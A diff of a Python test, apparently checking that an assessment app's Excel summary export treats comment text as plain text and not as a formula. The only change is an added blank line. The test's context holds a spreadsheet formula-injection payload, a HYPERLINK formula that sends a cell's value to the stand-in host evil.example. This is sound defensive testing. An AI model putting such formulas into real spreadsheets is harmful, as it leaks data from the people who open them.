@@ -72,6 +72,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 
 def test_round_summary_xlsx_comment_is_not_a_formula(aworld, users):
     from kotacerdas.assessment.models import Score
+
     _finish(aworld, users)
     Score.objects.filter(comment__startswith="komentar").update(comment=FORMULA)
     book = load_workbook(io.BytesIO(summary_xlsx(aworld.round)))
